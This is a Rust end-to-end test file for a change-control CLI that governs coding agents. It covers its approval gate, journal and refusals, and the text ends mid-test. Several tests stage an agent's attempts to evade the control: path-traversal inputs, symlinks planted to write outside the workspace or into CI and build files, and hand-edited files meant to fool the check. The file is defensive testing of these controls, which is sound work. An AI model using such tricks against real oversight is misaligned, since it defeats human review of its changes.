//! End-to-end tests of `foureyes task …` (change control for coding agents), each in its own temporary directory
//! with its own database and workspace: forbidden transitions refused with exit 2 and no task event, the happy
//! path, idempotent command ids, stale revisions, racing processes, a crash between intent and confirmation,
//! symlink escapes, sensitive paths behind the approval gate, the check timeout, and the journal staying clean.
//! The happy path, the race and the approval gate run on PostgreSQL too (`--db postgres://…`, `FOUREYES_TEST_PG`).
#![allow(clippy::unwrap_used)]

use crate::pg_cluster::Database;
use serde_json::Value;
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

const BIN: &str = env!("CARGO_BIN_EXE_foureyes");
const T: &str = "t1";
/// Passes when `a.txt` holds exactly the line `good`.
const CHECK: &str = "grep -qx good a.txt";

struct Env {
    dir: tempfile::TempDir,
    /// A SQLite file, or the URL of a PostgreSQL database.
    db: PathBuf,
    ws: PathBuf,
    /// The PostgreSQL database `db` names, dropped with the environment.
    _pg: Option<Database>,
    /// The door seal's key file every command is given (FOUREYES_SEAL_KEY, ADR-420), when set.
    seal: Option<PathBuf>,
}

fn env() -> Env {
    env_in(tempfile::tempdir().unwrap())
}

/// An environment in `dir` (a workspace outside `/tmp`, which the sandbox hides, shows what the check sees of
/// the directories above it).
fn env_in(dir: tempfile::TempDir) -> Env {
    let db = dir.path().join("t.db");
    let ws = dir.path().join("ws");
    std::fs::create_dir(&ws).unwrap();
    Env { dir, db, ws, _pg: None, seal: None }
}

/// An environment whose `--db` is a fresh database on the PostgreSQL test cluster (`FOUREYES_TEST_PG`, a superuser
/// URL; unset is a failure, never a skip — `cargo xtask test` starts a throwaway cluster and sets it).
fn env_pg() -> Env {
    let mut e = env();
    let database = Database::create();
    e.db = PathBuf::from(&database.url);
    e._pg = Some(database);
    e
}

impl Env {
    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = Command::new(BIN);
        c.arg("--db").arg(&self.db).args(args);
        c.env_remove("FOUREYES_DB").env_remove("FOUREYES_POLICY");
        match &self.seal {
            Some(key) => c.env("FOUREYES_SEAL_KEY", key),
            None => c.env_remove("FOUREYES_SEAL_KEY"),
        };
        c
    }

    fn run(&self, args: &[&str]) -> Output {
        self.cmd(args).output().unwrap()
    }

    /// Runs a `task` subcommand; returns the exit code, stdout and stderr.
    fn task(&self, args: &[&str]) -> (i32, String, String) {
        let mut full = vec!["task"];
        full.extend_from_slice(args);
        let out = self.run(&full);
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    fn create(&self, check: &str, extra: &[&str]) {
        let ws = self.ws.to_str().unwrap();
        let mut args = vec!["create", "--task", T, "--workspace", ws, "--check", check];
        args.extend_from_slice(extra);
        let (code, out, err) = self.task(&args);
        assert_eq!(code, 0, "create: {out}{err}");
    }

    /// Writes the content to a file and proposes it for `path`.
    fn propose(&self, id: &str, rev: u64, files: &[(&str, &str)]) -> (i32, String, String) {
        let rev = rev.to_string();
        let mut args = vec!["propose", "--task", T, "--command-id", id, "--expected-revision", &rev];
        let mut owned = Vec::new();
        for (i, (path, content)) in files.iter().enumerate() {
            let file = self.dir.path().join(format!("content-{id}-{i}"));
            std::fs::write(&file, content).unwrap();
            owned.push((path.to_string(), file.to_str().unwrap().to_string()));
        }
        for (path, file) in &owned {
            args.extend_from_slice(&["--path", path, "--content-file", file]);
        }
        self.task(&args)
    }

    fn step(&self, verb: &str, id: &str, rev: u64, extra: &[&str]) -> (i32, String, String) {
        let rev = rev.to_string();
        let mut args = vec![verb, "--task", T, "--command-id", id, "--expected-revision", &rev];
        args.extend_from_slice(extra);
        self.task(&args)
    }

    fn status(&self) -> Value {
        let (code, out, err) = self.task(&["status", "--task", T, "--json"]);
        assert_eq!(code, 0, "status: {out}{err}");
        serde_json::from_str(&out).unwrap()
    }

    /// Every journal event: (kind, data).
    fn journal(&self) -> Vec<(String, Value)> {
        let out = self.run(&["journal", "tail", "-n", "100000", "--json"]);
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(|l| {
                let v: Value = serde_json::from_str(l).unwrap();
                (v["kind"].as_str().unwrap().to_string(), v["data"].clone())
            })
            .collect()
    }

    fn task_events(&self) -> Vec<String> {
        self.journal().into_iter().map(|(k, _)| k).filter(|k| k.starts_with("task_")).collect()
    }

    /// Runs a command that must be refused: exit 2, a message naming the command and `state`, exactly one new
    /// journal event (a `refused` with the task id) and no task event.
    fn refused(&self, what: (i32, String, String), verb: &str, state: &str) -> String {
        let (code, out, err) = what;
        assert_eq!(code, 2, "expected a refusal: {out}{err}");
        assert!(err.contains(&format!("cannot {verb} task {T}: it is `{state}`")), "message: {err}");
        err
    }

    fn assert_refusal_appended_only(&self, before: &[(String, Value)], count: usize) {
        let after = self.journal();
        assert_eq!(after.len(), before.len() + count, "one `refused` event per refusal");
        for (kind, data) in &after[before.len()..] {
            assert_eq!(kind, "refused", "a refusal appended a `{kind}` event");
            assert_eq!(data["task_id"], T);
        }
    }

    fn assert_journal_clean(&self) {
        let out = self.run(&["journal", "verify"]);
        assert_eq!(out.status.code(), Some(0), "verify: {}", String::from_utf8_lossy(&out.stdout));
        let out = self.run(&["journal", "audit", "--json"]);
        let report: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(out.status.code(), Some(0), "audit: {report}");
        assert_eq!(report["mismatches"], serde_json::json!([]));
    }

    fn read(&self, path: &str) -> Option<String> {
        std::fs::read_to_string(self.ws.join(path)).ok()
    }
}

fn json_of(out: &str) -> Value {
    serde_json::from_str(out).unwrap_or_else(|e| panic!("not JSON ({e}): {out}"))
}

#[test]
fn forbidden_transitions_are_refused_with_exit_2_and_append_no_task_event() {
    let e = env();
    e.create(CHECK, &[]);

    // Finish from idle.
    let before = e.journal();
    let err = e.refused(e.step("finish", "f0", 0, &[]), "finish", "idle");
    assert!(err.contains("finish needs `verified` at the current revision"), "{err}");
    e.assert_refusal_appended_only(&before, 1);

    // Apply with a different path than proposed.
    assert_eq!(e.propose("p1", 0, &[("a.txt", "bad\n")]).0, 0);
    let before = e.journal();
    let err = e.refused(e.step("apply", "a1", 1, &["--path", "b.txt"]), "apply", "planned");
    assert!(err.contains("`b.txt`") && err.contains("`a.txt`"), "{err}");
    e.assert_refusal_appended_only(&before, 1);
    assert_eq!(e.read("a.txt"), None, "nothing was written");
    assert_eq!(e.read("b.txt"), None);

    // Finish after apply without a check.
    let (code, out, err) = e.step("apply", "a2", 1, &["--path", "a.txt"]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(e.read("a.txt").as_deref(), Some("bad\n"));
    let before = e.journal();
    e.refused(e.step("finish", "f1", 2, &[]), "finish", "changed");
    e.assert_refusal_appended_only(&before, 1);

    // Finish after a failed check.
    let (code, out, _) = e.step("check", "c1", 2, &["--json"]);
    assert_eq!(code, 13, "a failed check exits 13: {out}");
    assert_eq!(json_of(&out)["check"]["passed"], false);
    let before = e.journal();
    let err = e.refused(e.step("finish", "f2", 2, &[]), "finish", "changed");
    assert!(err.contains("(revision 2, verified at none)"), "{err}");
    e.assert_refusal_appended_only(&before, 1);

    // Finish after a passing check followed by another apply.
    assert_eq!(e.propose("p2", 2, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a3", 3, &[]).0, 0);
    assert_eq!(e.step("check", "c2", 4, &[]).0, 0);
    assert_eq!(e.status()["status"], "verified");
    assert_eq!(e.propose("p3", 4, &[("a.txt", "good\n"), ("b.txt", "more\n")]).0, 0);
    assert_eq!(e.step("apply", "a4", 5, &[]).0, 0);
    let before = e.journal();
    let err = e.refused(e.step("finish", "f3", 6, &[]), "finish", "changed");
    assert!(err.contains("(revision 6, verified at 4)"), "{err}");
    e.assert_refusal_appended_only(&before, 1);

    // Every one of those was refused without changing the task: only accepted commands count.
    let s = e.status();
    assert_eq!(
        (s["status"].as_str(), s["revision"].as_u64(), s["verified_revision"].as_u64()),
        (Some("changed"), Some(6), Some(4))
    );
    assert_eq!(s["events"], 8, "p1 a2 c1 p2 a3 c2 p3 a4");
    e.assert_journal_clean();
}

#[test]
fn the_happy_path_gives_four_events_and_a_new_process_rebuilds_the_same_state() {
    happy_path(&env());
}

/// The same flow with `--db postgres://…`: every CLI call is a process of its own on the shared database.
#[test]
fn on_postgres_the_happy_path_gives_four_events_and_a_new_process_rebuilds_the_same_state() {
    happy_path(&env_pg());
}

/// F588 (attack 13, #22; RED before: `task create` exited 8, "this door holds no seal key", with the key given):
/// on a journal sealed by a door holding the key, `foureyes task` given the same key (FOUREYES_SEAL_KEY) runs the
/// whole loop, each of its events sealed (`journal verify` with the key is clean).
#[test]
fn the_task_cli_holds_the_seal_key_it_is_given() {
    task_cli_on_a_sealed_journal(env());
}

#[test]
fn on_postgres_the_task_cli_holds_the_seal_key_it_is_given() {
    task_cli_on_a_sealed_journal(env_pg());
}

fn task_cli_on_a_sealed_journal(mut e: Env) {
    let key = e.dir.path().join("seal.key");
    std::fs::write(&key, format!("{}\n", "5e".repeat(32))).unwrap();
    e.seal = Some(key);
    // A keyed door's events seal the journal (on and off: each is journaled).
    for state in ["on", "off"] {
        let out = e.run(&["kill-switch", state, "--as", "ops"]);
        assert!(out.status.success(), "a keyed door seals the journal: {}", String::from_utf8_lossy(&out.stderr));
    }
    happy_path(&e);
}

fn happy_path(e: &Env) {
    e.create(CHECK, &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n"), ("docs/notes.md", "# notes\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &["--path", "docs/notes.md", "--path", "a.txt"]).0, 0);
    let (code, out, _) = e.step("check", "c1", 2, &["--json"]);
    assert_eq!(code, 0, "{out}");
    let check = json_of(&out);
    assert_eq!((check["check"]["passed"].as_bool(), check["check"]["exit_code"].as_i64()), (Some(true), Some(0)));
    assert_eq!(check["check"]["revision"], 2, "the check is bound to the revision it ran against");
    let (code, out, _) = e.step("finish", "f1", 2, &["--json"]);
    assert_eq!(code, 0, "{out}");
    assert_eq!(json_of(&out)["status"], "finished");

    let s = e.status();
    assert_eq!(s["status"], "finished");
    assert_eq!(s["events"], 4, "proposed, applied, checked, finished");
    assert_eq!(s["verified_revision"], s["revision"]);
    assert_eq!(s["applying"], Value::Null);
    assert_eq!(
        e.task_events(),
        ["task_created", "task_proposed", "task_apply_intended", "task_applied", "task_checked", "task_finished"]
    );
    assert_eq!(e.read("docs/notes.md").as_deref(), Some("# notes\n"));
    // The hashes recorded are the hashes of what is on disk.
    let written = s["last_applied"]["files"].as_array().unwrap().clone();
    for f in &written {
        let bytes = std::fs::read(e.ws.join(f["path"].as_str().unwrap())).unwrap();
        assert_eq!(f["bytes"], bytes.len());
    }
    // Every CLI call is a new process replaying the journal: the same journal, the same state.
    assert_eq!(e.status(), s);
    // A finished task takes no more commands.
    let before = e.journal();
    e.refused(e.propose("p2", 2, &[("a.txt", "x\n")]), "propose", "finished");
    e.assert_refusal_appended_only(&before, 1);
    e.assert_journal_clean();
}

#[test]
fn a_repeated_command_id_returns_the_first_outcome() {
    let e = env();
    e.create(CHECK, &[]);
    // Creating again with the same configuration is a repeat; with another one, a refusal.
    e.create(CHECK, &[]);
    let ws = e.ws.to_str().unwrap();
    let (code, _, err) = e.task(&["create", "--task", T, "--workspace", ws, "--check", "true"]);
    assert_eq!(code, 2, "{err}");

    let (code, out, _) = e.propose("p1", 0, &[("a.txt", "good\n")]);
    assert_eq!(code, 0);
    let first = json_of(&e.propose_json("p1", 0, "good\n"));
    assert_eq!(first["repeated"], true);
    assert_eq!(first["revision"], 1);
    assert!(out.contains("proposed"));
    assert_eq!(e.task_events().iter().filter(|k| *k == "task_proposed").count(), 1, "proposed once");

    // The same id for another change set is refused, and does not replace the first outcome.
    let (code, _, err) = e.propose("p1", 0, &[("a.txt", "other\n")]);
    assert_eq!(code, 2);
    assert!(err.contains("command id `p1` was already used"), "{err}");
    assert_eq!(json_of(&e.propose_json("p1", 0, "good\n"))["repeated"], true);

    // A refusal is a first outcome too: the repeat gets the same refusal, journaled once.
    let (code, _, err1) = e.step("finish", "f1", 1, &[]);
    let count = e.journal().len();
    let (code2, _, err2) = e.step("finish", "f1", 1, &[]);
    assert_eq!((code, code2), (2, 2));
    assert_eq!(err1, err2);
    assert_eq!(e.journal().len(), count, "a repeated refusal appends nothing");

    // An apply repeated after it was confirmed is answered, not executed twice.
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    std::fs::write(e.ws.join("a.txt"), "edited by hand\n").unwrap();
    let (code, out, _) = e.step("apply", "a1", 1, &["--json"]);
    assert_eq!(code, 0);
    let again = json_of(&out);
    assert_eq!((again["result"].as_str(), again["repeated"].as_bool()), (Some("applied"), Some(true)));
    assert_eq!(e.read("a.txt").as_deref(), Some("edited by hand\n"), "the repeat wrote nothing");
    assert_eq!(e.task_events().iter().filter(|k| *k == "task_applied").count(), 1);
    // A check on a workspace edited by hand is refused; its repeat returns that refusal.
    assert_eq!(e.step("check", "c1", 2, &[]).0, 2, "the workspace is not the applied revision");
    std::fs::write(e.ws.join("a.txt"), "good\n").unwrap();
    assert_eq!(e.step("check", "c1", 2, &[]).0, 2, "the repeat returns the first outcome");
    // A check repeated is answered from the record, without running again.
    assert_eq!(e.step("check", "c2", 2, &[]).0, 0, "the workspace is the applied revision again");
    std::fs::write(e.ws.join("a.txt"), "bad\n").unwrap();
    assert_eq!(e.step("check", "c2", 2, &[]).0, 0, "the repeat returns the recorded pass");
    assert_eq!(e.task_events().iter().filter(|k| *k == "task_checked").count(), 1);
    e.assert_journal_clean();
}

impl Env {
    fn propose_json(&self, id: &str, rev: u64, content: &str) -> String {
        let file = self.dir.path().join(format!("json-{id}"));
        std::fs::write(&file, content).unwrap();
        let rev = rev.to_string();
        let (code, out, err) = self.task(&[
            "propose",
            "--task",
            T,
            "--command-id",
            id,
            "--expected-revision",
            &rev,
            "--path",
            "a.txt",
            "--content-file",
            file.to_str().unwrap(),
            "--json",
        ]);
        assert_eq!(code, 0, "{out}{err}");
        out
    }
}

#[test]
fn a_stale_expected_revision_is_refused() {
    let e = env();
    e.create(CHECK, &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    let before = e.journal();
    let err = e.refused(e.propose("p2", 0, &[("a.txt", "other\n")]), "propose", "planned");
    assert!(err.contains("expected revision 0, which is stale"), "{err}");
    e.refused(e.step("apply", "a1", 0, &[]), "apply", "planned");
    e.refused(e.step("apply", "a2", 7, &[]), "apply", "planned");
    e.assert_refusal_appended_only(&before, 3);
    assert_eq!(e.read("a.txt"), None);
    e.assert_journal_clean();
}

#[test]
fn two_processes_racing_on_one_revision_get_exactly_one_accepted() {
    racing_processes(&env());
}

/// Processes racing on PostgreSQL serialize on the chain-head row lock: still exactly one accepted.
#[test]
fn on_postgres_processes_racing_on_one_revision_get_exactly_one_accepted() {
    racing_processes(&env_pg());
}

fn racing_processes(e: &Env) {
    e.create(CHECK, &[]);
    assert_eq!(e.propose("p0", 0, &[("a.txt", "good\n")]).0, 0);
    // Eight agents propose on revision 1 at once.
    let children: Vec<_> = (0..8)
        .map(|i| {
            let file = e.dir.path().join(format!("race-{i}"));
            std::fs::write(&file, format!("v{i}\n")).unwrap();
            e.cmd(&[
                "task",
                "propose",
                "--task",
                T,
                "--command-id",
                &format!("race-{i}"),
                "--expected-revision",
                "1",
                "--path",
                "a.txt",
                "--content-file",
                file.to_str().unwrap(),
            ])
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
        })
        .collect();
    let codes: Vec<i32> = children.into_iter().map(|c| c.wait_with_output().unwrap().status.code().unwrap()).collect();
    assert_eq!(codes.iter().filter(|c| **c == 0).count(), 1, "{codes:?}");
    assert_eq!(codes.iter().filter(|c| **c == 2).count(), 7, "{codes:?}");
    assert_eq!(e.status()["revision"], 2);
    assert_eq!(e.task_events().iter().filter(|k| *k == "task_proposed").count(), 2);

    // Two executors applying revision 2 at once: one applies, the other is refused.
    let children: Vec<_> = (0..2)
        .map(|i| {
            e.cmd(&["task", "apply", "--task", T, "--command-id", &format!("apply-{i}"), "--expected-revision", "2"])
                .stdout(Stdio::null())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let codes: Vec<i32> = children.into_iter().map(|c| c.wait_with_output().unwrap().status.code().unwrap()).collect();
    let mut sorted = codes.clone();
    sorted.sort();
    assert_eq!(sorted, [0, 2], "{codes:?}");
    assert_eq!(e.task_events().iter().filter(|k| *k == "task_applied").count(), 1);
    assert_eq!(e.status()["revision"], 3);
    e.assert_journal_clean();
}

#[test]
fn a_crash_during_apply_leaves_the_change_intended_not_confirmed() {
    let e = env();
    e.create(CHECK, &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    let mut child = e
        .cmd(&[
            "task",
            "apply",
            "--task",
            T,
            "--command-id",
            "a1",
            "--expected-revision",
            "1",
            "--pause-after-intent-ms",
            "60000",
        ])
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(e.dir.path().join("apply-a1.err")).unwrap())
        .spawn()
        .unwrap();
    // The apply's own stderr says why, should it end before its intent shows (F1671: a CI run saw only the timeout).
    let said = || std::fs::read_to_string(e.dir.path().join("apply-a1.err")).unwrap_or_default();
    let deadline = Instant::now() + Duration::from_secs(60);
    while e.status()["applying"].is_null() {
        if let Some(ended) = child.try_wait().unwrap() {
            panic!("the apply ended ({ended}) before its intent appeared: {}", said());
        }
        assert!(Instant::now() < deadline, "the intent never appeared: {}", said());
        std::thread::sleep(Duration::from_millis(50));
    }
    child.kill().unwrap(); // SIGKILL between the intent and the writes
    child.wait().unwrap();

    let s = e.status();
    assert_eq!(s["applying"]["state"], "intended, not confirmed");
    assert_eq!(s["applying"]["command_id"], "a1");
    assert_eq!((s["status"].as_str(), s["revision"].as_u64()), (Some("planned"), Some(1)), "never shown as applied");
    assert_eq!(s["last_applied"], Value::Null);
    assert_eq!(s["events"], 1, "only the proposal is an accepted event");
    assert_eq!(e.read("a.txt"), None);
    let (_, human, _) = e.task(&["status", "--task", T]);
    assert!(human.contains("INTENDED, NOT CONFIRMED"), "{human}");

    // Nothing else may act on the task meanwhile.
    let before = e.journal();
    let err = e.refused(e.step("apply", "a2", 1, &[]), "apply", "planned");
    assert!(err.contains("re-run `task apply --command-id a1`"), "{err}");
    e.refused(e.step("check", "c1", 1, &[]), "check", "planned");
    e.refused(e.step("finish", "f1", 1, &[]), "finish", "planned");
    e.assert_refusal_appended_only(&before, 3);
    e.assert_journal_clean();

    // Re-running the same apply resumes it.
    let (code, out, err) = e.step("apply", "a1", 1, &[]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("resuming"), "{out}");
    assert_eq!(e.read("a.txt").as_deref(), Some("good\n"));
    let s = e.status();
    assert_eq!(
        (s["status"].as_str(), s["revision"].as_u64(), s["events"].as_u64()),
        (Some("changed"), Some(2), Some(2))
    );
    assert_eq!(s["applying"], Value::Null);
    e.assert_journal_clean();
}

#[test]
fn symlinks_out_of_the_workspace_are_refused_at_proposal_and_at_apply() {
    let e = env();
    let outside = e.dir.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    // In the baseline, such a link is refused at create (ADR-565); planted afterwards, at propose and at apply.
    std::os::unix::fs::symlink(&outside, e.ws.join("out")).unwrap();
    let ws = e.ws.to_str().unwrap();
    // (Another task id: a refused create is journaled, and its command id answers the same again.)
    let (code, out, err) = e.task(&["create", "--task", "t0", "--workspace", ws, "--check", CHECK]);
    assert!(code != 0 && err.contains("symlink `out`") && err.contains("leads outside the workspace"), "{out}{err}");
    std::fs::remove_file(e.ws.join("out")).unwrap();
    e.create(CHECK, &[]);
    std::os::unix::fs::symlink(&outside, e.ws.join("out")).unwrap();

    let before = e.journal();
    let err = e.refused(e.propose("p1", 0, &[("out/x.txt", "x\n")]), "propose", "idle");
    assert!(err.contains("symlink `out`") && err.contains("outside the workspace"), "{err}");
    for path in ["../x.txt", "/etc/x.txt", "a/../../x.txt"] {
        e.refused(e.propose(&format!("bad-{}", path.len()), 0, &[(path, "x\n")]), "propose", "idle");
    }
    e.assert_refusal_appended_only(&before, 4);

    // A symlink planted after the proposal is caught before anything is written.
    assert_eq!(e.propose("p2", 0, &[("later/x.txt", "x\n")]).0, 0);
    std::os::unix::fs::symlink(&outside, e.ws.join("later")).unwrap();
    let before = e.journal();
    e.refused(e.step("apply", "a1", 1, &[]), "apply", "planned");
    e.assert_refusal_appended_only(&before, 1);
    assert!(std::fs::read_dir(&outside).unwrap().next().is_none(), "nothing written outside the workspace");
    assert_eq!(e.status()["applying"], Value::Null, "refused before the intent");
    e.assert_journal_clean();
}

/// Attack 12, H2 (F565): a symlink of the workspace whose own name is sensitive makes an innocent path the same
/// file. With `build.rs -> notes.txt`, a change to `notes.txt` is a change to the build script cargo runs; with
/// `.github/workflows -> ../ci`, `ci/deploy.yml` is a pipeline. Both were classified ordinary and applied with no
/// approval; they defer to a human now (ADR-565).
#[test]
fn a_change_reached_through_a_sensitive_symlink_defers_to_a_human() {
    for (link, target, path) in
        [("build.rs", "notes.txt", "notes.txt"), (".github/workflows", "../ci", "ci/deploy.yml")]
    {
        let e = env();
        std::fs::write(e.ws.join("notes.txt"), "// notes\n").unwrap();
        if let Some((parent, _)) = link.rsplit_once('/') {
            std::fs::create_dir_all(e.ws.join(parent)).unwrap();
        }
        std::os::unix::fs::symlink(target, e.ws.join(link)).unwrap();
        e.create(CHECK, &[]);
        assert_eq!(e.propose("p1", 0, &[(path, "evil\n"), ("a.txt", "good\n")]).0, 0);
        let (code, out, err) = e.step("apply", "a1", 1, &[]);
        assert_eq!(code, 11, "{link} -> {target}: a change to `{path}` was applied with no approval: {out}{err}");
        assert_ne!(e.read(path).as_deref(), Some("evil\n"), "{link} -> {target}: written before the human");
        let status = e.status();
        let shown = status["proposal"]["files"].as_array().unwrap();
        let sensitive: Vec<&str> =
            shown.iter().filter(|f| f["sensitive"] == true).map(|f| f["path"].as_str().unwrap()).collect();
        assert_eq!(sensitive, vec![path], "{status}");
        e.assert_journal_clean();
    }
}

#[test]
fn a_sensitive_path_defers_to_a_human_then_applies_after_approval() {
    sensitive_path_gate(&env());
}

/// The approval gate on PostgreSQL: the deferral, the human's approval and the apply are separate processes.
#[test]
fn on_postgres_a_sensitive_path_defers_to_a_human_then_applies_after_approval() {
    sensitive_path_gate(&env_pg());
}

fn sensitive_path_gate(e: &Env) {
    e.create(CHECK, &[]);
    assert_eq!(e.propose("p1", 0, &[(".ci/run", "#!/bin/sh\nexit 0\n"), ("a.txt", "good\n")]).0, 0);
    let status = e.status();
    assert_eq!(status["proposal"]["files"][0]["sensitive"], true);

    let (code, out, err) = e.step("apply", "a1", 1, &["--json"]);
    assert_eq!(code, 11, "deferred to a human: {out}{err}");
    let waiting = json_of(&out);
    let approval = waiting["awaiting_approval"].as_i64().unwrap().to_string();
    let digest = waiting["digest"].as_str().unwrap().to_string();
    assert!(!e.task_events().contains(&"task_apply_intended".to_string()), "no intent before the human");
    assert_eq!(e.read(".ci/run"), None);
    // Asking again while the approval is pending is still a deferral, not an apply.
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 11);

    let out = e.run(&["approvals", "approve", &approval, "--as", "alice", "--digest", &digest]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let (code, out, err) = e.step("apply", "a1", 1, &["--json"]);
    assert_eq!(code, 0, "released after approval: {out}{err}");
    assert_eq!(json_of(&out)["result"], "applied");
    assert_eq!(e.read(".ci/run").as_deref(), Some("#!/bin/sh\nexit 0\n"));
    let intended = e.journal().into_iter().find(|(k, _)| k == "task_apply_intended").unwrap().1;
    assert!(intended["cleared_by"].as_i64().is_some(), "the intent names the decision that cleared it: {intended}");
    // The gate's permit is reported executed, so no decision stays "intended, not confirmed".
    let out = e.run(&["decisions", "list", "--status", "intended", "--json"]);
    assert_eq!(serde_json::from_slice::<Value>(&out.stdout).unwrap(), serde_json::json!([]));
    e.assert_journal_clean();
}

#[test]
fn no_command_lets_an_agent_record_a_check_result() {
    let e = env();
    let (code, help, _) = e.task(&["--help"]);
    assert_eq!(code, 0);
    for verb in ["create", "propose", "apply", "check", "finish", "status"] {
        assert!(help.contains(verb), "{help}");
    }
    assert!(help.contains("2   refused"), "the help documents exit 2 for refusals: {help}");
    let (_, check_help, _) = e.task(&["check", "--help"]);
    for flag in ["--exit-code", "--passed", "--result", "--output"] {
        assert!(!check_help.contains(flag), "`task check` takes no result: {check_help}");
    }
    e.create(CHECK, &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "bad\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let (code, _, err) = e.step("check", "c1", 2, &["--exit-code", "0"]);
    assert_eq!(code, 2, "a usage error: {err}");
    assert_eq!(e.status()["last_check"], Value::Null, "nothing recorded");
}

#[test]
fn a_check_past_its_timeout_is_killed_with_its_children_and_fails() {
    let e = env();
    e.create("sleep 30 & sleep 30; wait", &["--check-timeout", "1s"]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let started = Instant::now();
    let (code, out, _) = e.step("check", "c1", 2, &["--json"]);
    assert_eq!(code, 13, "{out}");
    assert!(started.elapsed() < Duration::from_secs(10), "the whole group was killed: {:?}", started.elapsed());
    let check = &json_of(&out)["check"];
    assert_eq!((check["timed_out"].as_bool(), check["passed"].as_bool()), (Some(true), Some(false)));
    assert_eq!(check["exit_code"], Value::Null);
    e.assert_journal_clean();
}

#[test]
fn the_change_control_demo_runs() {
    let e = env();
    // The demo keeps its throwaway repository in the temp dir: this test's own.
    let out = e.cmd(&["demo", "change-control"]).env("TMPDIR", e.dir.path()).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{text}{}", String::from_utf8_lossy(&out.stderr));
    assert!(text.contains("refused (exit 2): cannot finish task greeting: it is `changed`"), "{text}");
    assert!(text.contains("FAILED at revision 2") && text.contains("PASSED at revision 4"), "{text}");
    assert!(text.contains("finished -> `finished` at revision 4, verified at 4"), "{text}");
    assert!(text.contains("chain intact") && text.contains("0 mismatches"), "{text}");
}

// ---------------------------------------------------------------------------------------------------------------
// Issue 20: the attacks an agent with write access to the workspace made on change control.

/// How many times the symlink race is run; each run widens the window with a pause after every write.
const SYMLINK_RACE_ROUNDS: usize = 8;

/// F80. The agent plants `zz -> .ci` and `yy -> <outside>` after the executor's first file lands: no later file
/// may follow them, so nothing reaches `.ci/` without approval or leaves the workspace, and the apply is never
/// confirmed.
#[test]
fn a_symlink_planted_while_apply_writes_never_sends_a_file_outside_the_workspace_or_into_ci() {
    for round in 0..SYMLINK_RACE_ROUNDS {
        let e = env();
        let outside = e.dir.path().join("outside");
        std::fs::create_dir(&outside).unwrap();
        std::fs::create_dir(e.ws.join(".ci")).unwrap();
        std::fs::write(e.ws.join(".ci/run"), "exit 0\n").unwrap();
        e.create(CHECK, &[]);
        let mut files: Vec<(String, String)> = (0..6).map(|i| (format!("f{i:02}.txt"), format!("{i}\n"))).collect();
        files.push(("zz/deploy.yml".into(), "deploy: everything\n".into()));
        files.push(("yy/leak.txt".into(), "secret\n".into()));
        let borrowed: Vec<(&str, &str)> = files.iter().map(|(p, c)| (p.as_str(), c.as_str())).collect();
        assert_eq!(e.propose("p1", 0, &borrowed).0, 0, "round {round}");
        let child = e
            .cmd(&["task", "apply", "--task", T, "--command-id", "a1", "--expected-revision", "1"])
            .args(["--pause-between-writes-ms", "30"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // The attacker: as soon as the first file is in place, plant the symlinks.
        let deadline = Instant::now() + Duration::from_secs(30);
        while !e.ws.join("f00.txt").exists() {
            assert!(Instant::now() < deadline, "round {round}: the first file never landed");
            std::thread::sleep(Duration::from_millis(1));
        }
        std::os::unix::fs::symlink(".ci", e.ws.join("zz")).unwrap();
        std::os::unix::fs::symlink(&outside, e.ws.join("yy")).unwrap();
        let out = child.wait_with_output().unwrap();
        let said = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        assert!(!e.ws.join(".ci/deploy.yml").exists(), "round {round}: a file reached .ci/ unapproved: {said}");
        assert!(std::fs::read_dir(&outside).unwrap().next().is_none(), "round {round}: a file left the workspace");
        let s = e.status();
        assert_eq!(s["last_applied"], Value::Null, "round {round}: the apply was confirmed: {said}");
        assert_eq!(s["applying"]["command_id"], "a1", "round {round}: it stays intended, not confirmed");
        e.assert_journal_clean();
    }
}

/// F81. The agent applies a change that fails its check, then writes passing text straight into the workspace:
/// the check refuses to run against a workspace that is not the applied revision, naming the file.
#[test]
fn check_refuses_a_workspace_that_differs_from_the_applied_revision() {
    let e = env();
    e.create(CHECK, &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "bad\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    std::fs::write(e.ws.join("a.txt"), "good\n").unwrap();
    let before = e.journal();
    let (code, out, err) = e.step("check", "c1", 2, &[]);
    assert_eq!(code, 2, "the check ran on a workspace nobody applied: {out}{err}");
    assert!(err.contains("`a.txt`"), "the refusal names the file: {err}");
    e.assert_refusal_appended_only(&before, 1);
    let s = e.status();
    assert_eq!((s["status"].as_str(), s["verified_revision"].as_u64()), (Some("changed"), None));
    e.assert_journal_clean();
}

/// F81. After a passing check the agent overwrites a checked file and adds another: finish re-hashes the
/// workspace and refuses, naming both.
#[test]
fn finish_refuses_a_workspace_that_drifted_from_the_checked_revision() {
    let e = env();
    e.create(CHECK, &[]);
